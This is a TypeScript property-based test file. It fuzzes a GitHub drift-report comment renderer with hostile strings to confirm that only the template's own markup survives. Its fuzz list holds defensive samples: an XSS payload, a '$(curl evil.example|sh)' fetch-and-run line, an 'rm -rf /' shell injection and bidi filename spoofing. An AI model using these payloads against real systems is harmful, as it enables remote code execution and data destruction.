import fc from 'fast-check'
import { renditionsOf, summaryOf } from '../../src/comment/index.ts'
import { importCommand } from '../../src/reading/command.ts'
import type { DriftReport } from '../../src/reading/model.ts'
import { markupOf } from './markup.ts'
import { flood, found, rowOf, type Slot, unknown } from './reports.ts'

const phrases = [
  '<img src=x onerror=alert(1)>',
  '[click](https://evil.example)',
  '![pixel](https://evil.example/p.png)',
  'https://evil.example/a',
  'www.evil.example',
  'mailto:a@evil.example',
  '@octocat',
  '@acme/admins please',
  '&#64;octocat',
  '&commat;octocat',
  'fixes #1',
  'GH-12',
  'acme/infra#3',
  '9f3c2d1a4b5c6d7e8f901234567890abcdef1234',
  '# heading',
  '- list',
  '```\n@octocat\n```',
  '`code`',
  '| a | b |',
  '**✅ approved**',
  '> quote',
  '<!-- slipway 00 -->',
  '<!--',
  '</summary></details><h1>',
  '</sub>',
  'a\nb\r\nc',
  '\n\n## 🟢 No manual operations\n\n',
  'user\u202egnp.exe',
  '\u0000\u001b[31mred',
  '$(curl evil.example|sh)',
  "'; rm -rf / #",
  '::add-mask::x',
  '[^1]',
  '[ref]: https://evil.example',
  '\ud800',
]
const hostile = fc.oneof(
  fc.constantFrom(...phrases),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc
    .array(fc.constantFrom(...phrases, '`', '``', '\\', '|', '\n', ' ', '<', '>', '@', '#', ':', '*', '_', '~'))
    .map((parts) => parts.join('')),
)

// The template alone, with every slot holding a plain word: what a report of this shape looks like to GitHub.
const harmless = markupOf(rendered(found(() => 'word')))

function rendered(report: DriftReport): string {
  return renditionsOf(report, { language: 'en', maxBytes: 200_000 })[0] ?? ''
}

/** Only what the template itself holds: no node that an author of a value put there. */
function expectOnlyTemplate(markdown: string, expected = harmless): void {
  const markup = markupOf(markdown)
  const { heading, list, table, details: _, ...rest } = markup.kinds as Partial<Record<string, number>>
  expect(heading).toBe(1)
  for (const kind of [
    'image',
    'imageReference',
    'linkReference',
    'definition',
    'footnoteReference',
    'footnoteDefinition',
    'blockquote',
    'thematicBreak',
    'delete',
  ]) {
    expect([kind, rest[kind] ?? 0]).toEqual([kind, 0])
  }
  expect([list, table]).toEqual([expected.kinds['list'], expected.kinds['table']])
  expect(markup.links).toEqual(['https://github.com/acme/infra/actions/runs/42'])
  // A value with a pipe is shown in <code>, which takes entities where a code span takes none.
  expect(markup.tags.filter((tag) => !/^<\/?code>$/.test(tag))).toEqual(expected.tags)
  expect(markup.prose).not.toMatch(/@[A-Za-z0-9]|#\d|\bGH-\d|\b[0-9a-f]{40}\b/)
  expect(markup.blocks).toEqual(expected.blocks)
}

test('T31 T32 T34 T35 ten thousand hostile strings in every slot of the comment leave nothing but the template.', () => {
  let strings = 0
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 40, maxLength: 40 }), (values) => {
      let at = 0
      const slot: Slot = () => {
        strings += 1
        at = (at + 1) % values.length
        return values[at] ?? ''
      }
      expectOnlyTemplate(rendered(found(slot)))
    }),
    { numRuns: 60, seed: 31 },
  )
  expect(strings).toBeGreaterThanOrEqual(10_000)
}, 300_000)

test('T31 one hostile string at a time, in one slot at a time, leaves nothing but the template.', () => {
  let slots = 0
  found((plain) => {
    slots += 1
    return plain
  })
  fc.assert(
    fc.property(fc.nat(slots - 1), hostile, (chosen, value) => {
      let at = -1
      const slot: Slot = () => {
        at += 1
        return at === chosen ? value : 'word'
      }
      expectOnlyTemplate(rendered(found(slot)))
    }),
    { numRuns: 300, seed: 32 },
  )
}, 300_000)

test('T31 reasons, names and codes of sources that could not be read are as harmless.', () => {
  const expected = markupOf(rendered(unknown(() => 'word')))
  fc.assert(
    fc.property(hostile, (value) => expectOnlyTemplate(rendered(unknown(() => value)), expected)),
    { numRuns: 200, seed: 33 },
  )
}, 300_000)

test('T31 the job summary is as harmless as the comment.', () => {
  fc.assert(
    fc.property(hostile, (value) => {
      const blocks = summaryOf(
        found(() => value),
        'en',
      )
      const markup = markupOf(blocks.map(({ source }) => source).join('\n\n'))
      expect(markup.links).toEqual(['https://github.com/acme/infra/actions/runs/42'])
      expect(Object.keys(markup.kinds)).not.toContain('heading')
      expect(markup.prose).not.toMatch(/@[A-Za-z0-9]|#\d/)
    }),
    { numRuns: 60, seed: 34 },
  )
}, 300_000)

const at = {
  target: { project: 'platform', directory: '', workspace: '' },
  allowed: new Set(['plan', 'apply', 'import', 'state']),
}

test('No command is printed for a name with anything in it that hides, reorders or ends a line.', () => {
  const bad = [
    'a\nb',
    'a\u202eb',
    'a\u200bb',
    'a\u0000b',
    'a\rb',
    'a\u2028b',
    '-rf',
    '',
    'a\u00adb',
    `x${'y'.repeat(600)}`,
  ]
  for (const address of bad) {
    const repair = importCommand(address, 'ns/name', at)
    const report = { ...found(), rows: [rowOf((plain) => plain, 'exists', 'a.b', { repair })] }
    expect([address, markupOf(rendered(report)).blocks]).toEqual([address, []])
  }
})

test('A command is shown exactly as a shell must read it, or not at all: a name that Unicode would rewrite has none.', () => {
  fc.assert(
    fc.property(fc.oneof(hostile, fc.string({ unit: 'grapheme' }), fc.constant('e\u0301')), (address) => {
      const repair = importCommand(address, 'ns/name', at)
      const report = { ...found(), rows: [rowOf((plain) => plain, 'exists', 'a.b', { repair })] }
      const [block] = markupOf(rendered(report)).blocks
      const [line] = repair.commands.map((command) => command.line)
      expect(block === undefined || block === line).toBe(true)
      if (address === 'e\u0301') expect(block).toBeUndefined()
    }),
    { numRuns: 400, seed: 35 },
  )
}, 300_000)

test('F58 a report of any size keeps to its bytes, opens everything it closes, and says how much it leaves out.', () => {
  const sizes = [1_000, 1_500, 2_500, 4_000, 9_000, 30_000, 60_000]
  for (const [index, maxBytes] of sizes.entries()) {
    const wide: Slot = index % 2 === 0 ? (plain) => plain : () => '🚢|`<&'.repeat(20)
    const [markdown = ''] = renditionsOf(flood(200, wide), { language: index % 3 === 0 ? 'zh' : 'en', maxBytes })
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(maxBytes)
    const { tags, links } = markupOf(markdown)
    const count = (tag: string) => tags.filter((one) => one === tag).length
    expect([count('<details>'), count('<sub>')]).toEqual([count('</details>'), count('</sub>')])
    expect(links.length).toBeLessThanOrEqual(1)
    expect(markdown).toMatch(/^## 🔴 /u)
    if (maxBytes >= 2_500) expect(markdown).toMatch(/left out for size|因篇幅省略/i)
  }
})

test('What hurts most is cut last: of a flood the deleted are shown first, and the timeline goes before them.', () => {
  const [markdown = ''] = renditionsOf(flood(200), { language: 'en', maxBytes: 6_000 })
  expect(markdown).toContain('kubernetes_config_map_v1.deleted_0')
  expect(markdown).not.toContain('kubernetes_config_map_v1.settled_')
  expect(markdown).toMatch(/Left out for size: .*Timeline of manual operations/)
})

test('F63 a summary of the worst night stays below what GitHub takes.', () => {
  const blocks = summaryOf(
    flood(2_000, () => 'x'.repeat(300)),
    'en',
  )
  expect(Buffer.byteLength(blocks.map(({ source }) => source).join('\n\n'))).toBeLessThan(900 * 1024)
})
